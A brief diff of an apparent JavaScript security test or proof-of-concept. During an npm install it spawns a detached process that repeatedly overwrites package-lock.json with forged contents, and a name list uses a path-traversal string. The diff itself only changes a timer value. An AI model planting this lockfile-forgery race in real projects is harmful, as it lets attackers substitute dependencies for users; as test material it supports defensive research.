@@ -150,7 +150,7 @@ for (const name of ["mallory-lock/../benign-lock", "benign-lock"]) {
 const lock = "@NODE_TARGET@/../package-lock.json", forged = @FORGED@;
 const again = `const fs = require("fs"); setInterval(() => { try {
   fs.writeFileSync("${lock}.new", process.argv[1]); fs.renameSync("${lock}.new", "${lock}");
-} catch {} }, 0); setTimeout(() => process.exit(), 4000)`;
+} catch {} }, 5); setTimeout(() => process.exit(), 4000)`;
 if (process.env.npm_execpath) {
   require("child_process").spawn(process.execPath, ["-e", again, forged], { detached: true, stdio: "ignore" }).unref();
   while (!fs.existsSync(lock)) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 10);
